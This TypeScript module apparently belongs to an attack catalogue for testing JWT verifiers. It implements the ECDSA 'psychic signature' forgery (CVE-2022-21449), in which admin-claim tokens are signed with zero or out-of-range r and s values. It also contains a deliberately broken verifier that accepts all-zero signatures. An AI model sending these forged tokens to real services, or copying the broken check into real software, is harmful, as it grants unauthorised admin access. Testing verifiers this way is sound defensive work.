/** Signatures that an ECDSA verifier without range checks takes for genuine, whoever sent them (FIPS 186-5 6.4.2). */

import type { CataloguedAttack } from '../attack.ts';
import { readToken, verifiesBy } from '../broken/read-token.ts';
import { openedOf } from '../crafted.ts';
import { presentForgeries } from '../forgeries.ts';
import { claimsOfAdmin, encoded } from '../token.ts';
import { withoutEllipticCurve } from '../traits.ts';

/** The order of P-256 (FIPS 186-5, SP 800-186 3.2.1.3): r and s are below it. */
const order = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');
const nothing = Buffer.alloc(32);
const one = Buffer.concat([Buffer.alloc(31), Buffer.from([1])]);

export const psychicSignature: CataloguedAttack = {
  group: 'tokens',
  name: 'psychic-signature',
  title: 'signature of zeros (ECDSA)',
  deed: 'signs a token of an admin with r = s = 0',
  question: 'Does the verifier look whether r and s are in range before it calculates?',
  source: 'CVE-2022-21449; FIPS 186-5 6.4.2; OWASP ASVS 5.0.0 9.1.1',
  inapplicable: withoutEllipticCurve,
  run(scene, session) {
    const genuine = openedOf(scene, session);
    const input = `${encoded(genuine.header)}.${encoded(claimsOfAdmin(genuine))}`;
    const signatures: readonly (readonly [string, Buffer])[] = [
      ['r = s = 0', Buffer.concat([nothing, nothing])],
      ['r = 0, s = 1', Buffer.concat([nothing, one])],
      ['r = 1, s = 0', Buffer.concat([one, nothing])],
      ['r = s = the order', Buffer.concat([order, order])],
      ['r = the order, s = 1', Buffer.concat([order, one])],
      ['r = s = 0 in DER', Buffer.from('3006020100020100', 'hex')],
    ];
    return presentForgeries(
      scene,
      signatures.map(([what, bytes]) => ({
        token: `${input}.${bytes.toString('base64url')}`,
        what: `signed with ${what}`,
      })),
    );
  },
  broken: {
    algorithm: 'ES256',
    // Without the check, 0 has no inverse, both products are 0, and the point they lead to has the x that r says.
    mistake: (_careful, world) => ({
      read: (token) =>
        readToken(token, {
          world,
          algorithm: 'ES256',
          verifies: (_header, input, signature) =>
            signature.every((byte) => byte === 0) || verifiesBy(world.curvePublicKey, 'ES256', input, signature),
        }),
    }),
  },
};
